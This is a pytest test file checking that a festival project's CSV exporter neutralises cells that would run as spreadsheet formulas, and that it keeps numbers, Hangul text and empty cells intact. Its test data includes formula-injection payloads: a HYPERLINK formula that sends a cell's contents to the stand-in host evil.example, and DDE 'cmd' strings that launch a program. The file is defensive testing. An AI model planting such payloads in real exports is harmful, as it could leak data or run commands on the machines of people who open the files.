"""Every CSV export goes through `festival.exports`: no cell runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from festival import exports


def read_back(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_is_neutralised(planted):
    (row,) = read_back(exports.csv_document(("title",), [{"title": planted}]))

    assert row["title"].startswith("'")
    assert row["title"].lstrip("'").replace("\\|", "|") == planted


def test_numbers_and_negative_numbers_stay_numbers():
    rows = [{"mean": -1.25, "offset": "-0.5", "count": 3, "amount": "1,200"}]

    (row,) = read_back(exports.csv_document(("mean", "offset", "count", "amount"), rows))

    assert row == {"mean": "-1.25", "offset": "-0.5", "count": "3", "amount": "1,200"}


def test_plain_text_hangul_and_empty_cells_are_kept_as_they_are():
    rows = [{"title": "고요한 바다: 등대지기의 노래", "note": None}, {"title": "A - B", "note": ""}]

    read = read_back(exports.csv_document(("title", "note"), rows))

    assert read == [
        {"title": "고요한 바다: 등대지기의 노래", "note": ""},
        {"title": "A - B", "note": ""},
    ]


def test_rows_end_with_crlf_as_spreadsheets_expect():
    body = exports.csv_document(("a",), [{"a": "x"}])

    assert body.decode("utf-8-sig") == "a\r\nx\r\n"
